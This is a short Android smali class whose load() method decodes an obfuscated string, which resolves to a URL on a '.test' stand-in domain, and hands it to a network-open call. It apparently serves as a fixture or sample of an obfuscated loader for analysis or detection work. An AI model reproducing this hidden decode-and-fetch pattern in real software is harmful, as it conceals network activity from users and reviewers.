.class public Lc1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "a}}yz3&&jh}ja'zafy'}lz}&\u007f8&}a{f~"
    invoke-static {v0}, Lc1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lc1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

